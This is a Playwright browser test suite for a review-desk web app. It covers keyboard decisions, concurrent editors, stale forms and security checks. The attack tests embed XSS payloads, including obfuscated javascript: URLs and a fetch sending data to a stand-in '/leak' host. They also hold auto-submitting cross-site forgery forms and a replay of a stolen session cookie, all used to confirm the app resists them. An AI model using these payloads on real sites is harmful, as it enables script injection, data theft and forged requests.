"""The review desk in a real browser (Chromium via Playwright): keys, two editors, stale forms,
attacks. The server is `evidence serve` on 127.0.0.1; the database is the test database."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from sqlalchemy import func, select

from classifier.store.tables import decisions, labels
from tests.review_seed import SeedArticle, seed, set_opinions
from tests.web_support import PASSWORD, type_into_login

pytestmark = pytest.mark.browser


def item_id(url: str) -> int:
    m = re.search(r"/item/(\d+)", url)
    assert m, url
    return int(m.group(1))


def _label(engine, label_id):
    with engine.connect() as c:
        return c.execute(select(labels).where(labels.c.id == label_id)).one()


def _actions(engine) -> list[tuple[str, str, int]]:
    with engine.connect() as c:
        return [(r.user_name, r.action, r.label_id) for r in
                c.execute(select(decisions).order_by(decisions.c.id))]


def sign_in(browser, server, name: str):
    """Browser, server, user → (context, page) signed in with the keyboard only."""
    ctx = browser.new_context(base_url=server.url)
    page = ctx.new_page()
    page.goto("/queue")
    assert "/login" in page.url
    type_into_login(page, name, PASSWORD)
    try:
        page.wait_for_url("**/queue")
    except PlaywrightTimeout:
        pytest.fail(f"sign-in as {name} stayed on {page.url}: "
                    f"{page.locator('p.error').all_inner_texts()}")
    return ctx, page


def press_and_wait_for_next(page, key: str, current: int) -> int:
    """Press a decision key on item `current` → id of the item the desk moved on to."""
    page.keyboard.press(key)
    page.wait_for_url(lambda url: "/item/" in url and item_id(url) != current)
    return item_id(page.url)


def test_approve_with_a(browser, desk_server):
    ctx, page = sign_in(browser, desk_server, "ann")
    page.goto("/next")
    first = item_id(page.url)
    second = press_and_wait_for_next(page, "a", first)
    row = _label(desk_server.engine, first)
    assert row.review_state == "approved" and row.final["relevant"] == row.relevant
    assert _actions(desk_server.engine) == [("ann", "approve", first)]
    assert _label(desk_server.engine, second).claimed_by == "ann"
    ctx.close()


def test_correct_a_field_with_e_then_enter(browser, desk_server):
    ctx, page = sign_in(browser, desk_server, "ann")
    page.goto("/next?evidence_type=direct")
    first = item_id(page.url)
    before = page.eval_on_selector("#f-strength", "e => e.value")
    target = "weak" if before != "weak" else "strong"
    page.keyboard.press("e")
    assert page.evaluate("document.activeElement.id") == "f-relevant"
    for _ in range(3):
        page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "f-strength"
    page.keyboard.type(target[0])  # select type-ahead: "w" → weak, "s" → strong
    assert page.eval_on_selector("#f-strength", "e => e.value") == target
    press_and_wait_for_next(page, "Enter", first)
    row = _label(desk_server.engine, first)
    assert row.review_state == "corrected" and row.final["strength"] == target
    assert row.final["evidence_type"] == "direct"
    assert _actions(desk_server.engine) == [("ann", "correct", first)]
    ctx.close()


def test_reject_with_x_then_undo_with_u(browser, desk_server):
    ctx, page = sign_in(browser, desk_server, "ann")
    page.goto("/next")
    first = item_id(page.url)
    press_and_wait_for_next(page, "x", first)
    assert _label(desk_server.engine, first).review_state == "rejected"
    page.keyboard.press("u")
    page.wait_for_url(re.compile(rf"/item/{first}\?notice=undone"))
    assert "Your last decision was undone" in page.inner_text("main")
    row = _label(desk_server.engine, first)
    assert row.review_state == "pending" and row.final is None and row.claimed_by == "ann"
    assert _actions(desk_server.engine) == [("ann", "reject", first), ("ann", "undo", first)]
    ctx.close()


def test_space_skips_question_mark_shows_keys_j_k_move(browser, desk_server):
    ctx, page = sign_in(browser, desk_server, "ann")
    # queue page: j/k move the selection, Enter opens it
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    href = page.eval_on_selector("tr.queue-row.selected", "r => r.dataset.href")
    assert page.eval_on_selector_all("tr.queue-row", "rs => rs.findIndex(r => "
                                     "r.classList.contains('selected'))") == 0
    page.keyboard.press("Enter")
    page.wait_for_url(f"**{href}")
    page.goto("/next")
    first = item_id(page.url)
    assert page.eval_on_selector("#keys-help", "d => d.open") is False
    page.keyboard.press("?")
    assert page.eval_on_selector("#keys-help", "d => d.open") is True
    page.keyboard.press("?")
    second = press_and_wait_for_next(page, " ", first)
    assert _label(desk_server.engine, first).review_state == "pending"
    assert _actions(desk_server.engine) == [("ann", "skip", first)]
    third = press_and_wait_for_next(page, "j", second)  # the next item in review order
    assert third not in (first, second)
    page.keyboard.press("k")  # and back: the item before the third is the second
    page.wait_for_url(lambda url: "/item/" in url and item_id(url) == second)
    assert [a for _, a, _ in _actions(desk_server.engine)] == ["skip"]  # moving decides nothing
    ctx.close()


def test_two_editors_never_get_the_same_item(browser, desk_server):
    (actx, ann), (bctx, bob) = sign_in(browser, desk_server, "ann"), sign_in(browser, desk_server,
                                                                             "bob")
    ann.goto("/next")
    bob.goto("/next")
    seen_a, seen_b = [item_id(ann.url)], [item_id(bob.url)]
    for _ in range(3):  # both keep approving; their items never overlap
        seen_a.append(press_and_wait_for_next(ann, "a", seen_a[-1]))
        seen_b.append(press_and_wait_for_next(bob, "a", seen_b[-1]))
    assert not set(seen_a) & set(seen_b)
    # bob opens ann's current item directly: read-only, and his keys do nothing
    bob.goto(f"/item/{seen_a[-1]}")
    assert "ann is reviewing this item" in bob.inner_text("#held-by")
    n = len(_actions(desk_server.engine))
    bob.keyboard.press("a")
    bob.keyboard.press("x")
    bob.wait_for_timeout(300)
    assert item_id(bob.url) == seen_a[-1] and len(_actions(desk_server.engine)) == n
    assert _label(desk_server.engine, seen_a[-1]).review_state == "pending"
    actx.close()
    bctx.close()


def test_stale_form_gets_the_conflict_page(browser, desk_server, artifacts):
    ctx, page = sign_in(browser, desk_server, "ann")
    page.goto("/next")
    target = item_id(page.url)
    page.screenshot(path=str(artifacts / "item-page.png"), full_page=True)
    assert (artifacts / "item-page.png").stat().st_size > 10_000
    old = ctx.new_page()  # a second tab still showing the item as it was
    old.goto(f"/item/{target}")
    press_and_wait_for_next(page, "a", target)
    old.keyboard.press("x")
    old.wait_for_selector("#conflict")
    assert "changed since your form was shown" in old.inner_text("#conflict")
    assert _label(desk_server.engine, target).review_state == "approved"
    assert _actions(desk_server.engine) == [("ann", "approve", target)]
    old.click("#reload-item")
    assert old.inner_text("#state") == "approved"
    ctx.close()


def test_disagreement_filter_and_both_opinions(browser, desk_server, artifacts):
    engine = desk_server.engine
    with engine.connect() as c:
        row = c.execute(select(labels).where(labels.c.relevant.is_(True), labels.c.direction.in_(
            ("supports", "neutral"))).order_by(labels.c.id).limit(1)).one()
    llm = {f: getattr(row, f) for f in ("relevant", "evidence_type", "direction", "strength")}
    set_opinions(engine, row.id, encoder={**llm, "direction": "undermines"}, llm=llm)
    ctx, page = sign_in(browser, desk_server, "ann")
    n_all = page.locator("tr.queue-row").count()
    page.focus("#f-disagree")
    page.keyboard.type("e")  # select type-ahead: "encoder and LLM disagree"
    assert page.eval_on_selector("#f-disagree", "e => e.value") == "yes"
    page.click("#filters button[type=submit]")
    page.wait_for_url("**/queue?*disagree=yes*")
    rows = page.locator("tr.queue-row")
    assert rows.count() == 1 < n_all
    assert rows.first.get_attribute("data-href").startswith(f"/item/{row.id}?")
    assert "≠ direction" in rows.first.inner_text()
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(rf"/item/{row.id}\?.*disagree=yes"))
    cells = page.locator('#opinions tr[data-field="direction"] td')
    assert cells.all_inner_texts()[:2] == ["undermines 0.80", f"{row.direction} 0.80"]
    assert cells.nth(2).inner_text() == "llm"
    assert page.locator("#opinions tr[data-field]").count() == 1
    page.screenshot(path=str(artifacts / "item-opinions.png"), full_page=True)
    page.keyboard.press("j")  # the only disagreeing item: the end of the filtered queue
    page.wait_for_url(re.compile(r"/queue\?.*disagree=yes.*notice=end"))
    assert _actions(engine) == []
    ctx.close()


# ---------------------------------------------------------------------------------------------
# Attacks
# ---------------------------------------------------------------------------------------------

HOSTILE_TITLE = ('<script>window.__pwned="title"</script><img src=x onerror="window.__pwned=1">'
                 'Quarterly results')
HOSTILE_TEXT = (
    'Quarterly results were strong. <script>window.__pwned="text";'
    'fetch("http://127.0.0.2:9/leak")</script>\n'
    '<a href="javascript:window.__pwned=\'link\'">read more</a> '
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">'
    'entity link</a> <a href="jav&#x09;ascript:window.__pwned=2">tab link</a>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=\'svg\'">'
    '<script>window.__pwned="svg2"</script><image href="http://127.0.0.2:9/svg.png"/></svg>\n'
    '<form action="http://127.0.0.2:9/steal" method="post"><input name="q" value="1">'
    '<button autofocus>go</button></form><iframe src="http://127.0.0.2:9/frame"></iframe>\n'
    '<img src="http://127.0.0.2:9/pixel.gif"><link rel="stylesheet" href="http://127.0.0.2:9/x.css">'
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.2:9/meta">\n'
    'The analysts expect the trend to continue into the next quarter of the year.')


def test_hostile_article_is_inert(browser, desk_server):
    ids = seed(desk_server.engine, [
        SeedArticle(title=HOSTILE_TITLE, text=HOSTILE_TEXT, url="javascript:window.__pwned=6",
                    site_name='<b onmouseover="window.__pwned=7">evil</b>'),
        SeedArticle(title=HOSTILE_TITLE + " (copy)", text=HOSTILE_TEXT + " Copy.",
                    url="&#x6A;avascript:window.__pwned=8")],
        theses=("oss-parity",), feed="hostile", story_of={1: 0},
        proposals=[dict(relevant=True, evidence_type="direct", direction="supports",
                        strength="strong", trigger=None)])
    ctx, page = sign_in(browser, desk_server, "ann")
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    for path in (f"/item/{ids[0]}", "/queue?feed=hostile", "/thesis/oss-parity",
                 f"/item/{ids[0]}/calls"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("typeof window.__pwned") == "undefined", path
    page.goto(f"/item/{ids[0]}")
    page.wait_for_load_state("networkidle")
    # the payloads are on the page as text, not as elements
    text = page.inner_text("#article-text")
    assert "<script>" in text and "<svg" in text and "&#106;" in text
    assert page.eval_on_selector_all("#article-text *", "els => els.map(e => e.tagName)") == [
        "MARK"] * page.eval_on_selector_all("#article-text mark", "els => els.length")
    assert page.eval_on_selector_all("main a[href^='javascript'], main iframe, main svg, "
                                     "main img, main script", "els => els.length") == 0
    page.click("#article-title")  # the javascript: URL is text, not a link
    page.click("#copies p")
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert dialogs == []
    assert requests and all(u.startswith(desk_server.url + "/") for u in requests), requests
    ctx.close()


@pytest.fixture
def attacker_site() -> Iterator[tuple[str, dict[str, str]]]:
    """A second local site (another port, so cross-origin) serving pages we put in `pages`."""
    pages: dict[str, str] = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            body = pages.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):  # quiet
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{srv.server_address[1]}", pages
    srv.shutdown()


def test_cross_site_posts_are_refused(browser, desk_server, attacker_site):
    ctx, page = sign_in(browser, desk_server, "ann")
    page.goto("/next")
    target = item_id(page.url)
    real_token = page.get_attribute("#approve-form input[name=csrf]", "value")
    base, pages = attacker_site
    shaped = "A" * len(real_token)
    for name, token_field in (("none", ""), ("forged", '<input name="csrf" value="forged">'),
                              ("stolen-shape", f'<input name="csrf" value="{shaped}">')):
        pages[f"/{name}"] = (
            f'<form id="f" method="post" action="{desk_server.url}/item/{target}/decide">'
            f'<input name="action" value="reject"><input name="version" value="1">'
            f'<input name="key" value="evil-{name}">{token_field}</form>'
            '<script>document.getElementById("f").submit()</script>')
        with page.expect_response(f"{desk_server.url}/item/{target}/decide") as resp:
            page.goto(f"{base}/{name}")
        assert resp.value.status == 403, name
    # even the real token does not help a cross-origin post (Origin check)
    pages["/with-token"] = (
        f'<form id="f" method="post" action="{desk_server.url}/item/{target}/decide">'
        f'<input name="action" value="reject"><input name="version" value="1">'
        f'<input name="key" value="evil-real"><input name="csrf" value="{real_token}"></form>'
        '<script>document.getElementById("f").submit()</script>')
    with page.expect_response(f"{desk_server.url}/item/{target}/decide") as resp:
        page.goto(f"{base}/with-token")
    assert resp.value.status == 403
    assert _label(desk_server.engine, target).review_state == "pending"
    assert _actions(desk_server.engine) == []
    ctx.close()


def test_editor_on_admin_route_and_session_reuse_after_logout(browser, desk_server):
    ctx, page = sign_in(browser, desk_server, "ann")
    resp = page.goto("/admin/users")
    assert resp.status == 403 and "needs the admin role" in page.inner_text("main")
    stolen = [c for c in ctx.cookies() if c["name"] == "evidence_session"]
    assert stolen and stolen[0]["httpOnly"] and stolen[0]["sameSite"] == "Lax"
    assert page.evaluate("document.cookie").find("evidence_session") == -1  # HttpOnly
    page.goto("/queue")
    page.click("#logout-form button")
    page.wait_for_url("**/login")
    replay = browser.new_context(base_url=desk_server.url)
    replay.add_cookies(stolen)
    again = replay.new_page()
    again.goto("/queue")
    assert "/login" in again.url
    resp = again.request.post(f"{desk_server.url}/undo", form={"key": "k"})
    assert resp.status in (401, 403)
    assert _actions(desk_server.engine) == []
    replay.close()
    ctx.close()
    with desk_server.engine.connect() as c:
        assert c.execute(select(func.count()).select_from(decisions)).scalar() == 0


def test_basic_forms_work_without_javascript(browser, desk_server):
    ctx = browser.new_context(base_url=desk_server.url, java_script_enabled=False)
    page = ctx.new_page()
    page.goto("/login")
    page.fill("input[name=name]", "bob")
    page.fill("input[name=password]", PASSWORD)
    page.press("input[name=password]", "Enter")
    page.wait_for_url("**/queue")
    page.goto("/next")
    first = item_id(page.url)
    page.focus("#approve-form button")
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: "/item/" in url and item_id(url) != first)
    second = item_id(page.url)
    page.select_option("#f-relevant", "false")
    page.click("#correct-form button[type=submit]")
    page.wait_for_url(lambda url: "/item/" in url and item_id(url) != second)
    page.click("#undo-form button")
    page.wait_for_url(re.compile(rf"/item/{second}\?notice=undone"))
    assert _label(desk_server.engine, first).review_state == "approved"
    assert _label(desk_server.engine, second).review_state == "pending"
    assert [a for _, a, _ in _actions(desk_server.engine)] == ["approve", "correct", "undo"]
    ctx.close()
